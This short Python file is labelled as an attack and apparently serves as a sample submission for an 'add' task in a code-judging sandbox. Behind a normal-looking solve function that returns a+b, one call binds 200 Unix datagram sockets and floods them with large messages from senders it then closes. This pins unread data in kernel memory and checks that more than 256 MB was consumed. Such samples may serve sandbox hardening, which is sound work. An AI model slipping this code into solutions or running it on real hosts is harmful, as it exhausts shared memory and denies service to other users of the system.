# Attack: memory that the kernel holds: letters that nobody reads, from senders that are gone.
# task: add
import socket


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    boxes, total = [], 0
    for number in range(200):
        box = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        box.bind(f"/tmp/{number}")
        boxes.append(box)
        try:
            while True:
                sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                sender.setblocking(False)
                total += sender.sendto(b"x" * 180_000, f"/tmp/{number}")
                sender.close()
        except BlockingIOError:
            sender.close()
    return a + b if total > 256 << 20 else None
